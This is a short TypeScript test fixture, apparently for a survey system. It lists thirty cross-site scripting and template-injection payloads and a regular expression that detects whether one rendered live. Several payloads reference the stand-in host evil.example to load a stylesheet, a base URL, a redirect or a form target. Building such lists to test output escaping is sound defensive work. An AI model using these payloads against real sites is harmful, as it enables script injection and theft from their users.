/** Thirty ways to break out of a page, and what would show that one did. */

/** What has run as script, or broken out of a page, in one survey system or another. */
export const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  "` onclick=`alert(1)",
  "javascript:alert(1)",
  "jAvAsCrIpT:alert(1)",
  "&#106;avascript:alert(1)",
  "<a href=javascript:alert(1)>x</a>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)>",
  "<embed src=//evil.example/x.swf>",
  "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<style>@import '//evil.example/x.css'</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example/>",
  "<form action=//evil.example><button>x</button></form>",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "<!--<script>alert(1)</script>-->",
  "<<script>alert(1)//<</script>",
  "{{constructor.constructor 'alert(1)'}}{{lookup this '__proto__'}}{{{7*191}}}",
] as const;

/** Elements and attributes that a page of ours never has, and words that only a payload brings. */
export const ALIVE =
  /<(script(?![^>]*\bsrc="\/static\/)|img|svg(?![^>]*\bclass=)|iframe|object|embed|math|details(?=[^>]*\son)|style|base|form[^>]*evil)[\s>]|\son[a-z]+\s*=\s*["'`]?alert|href="javascript/i;
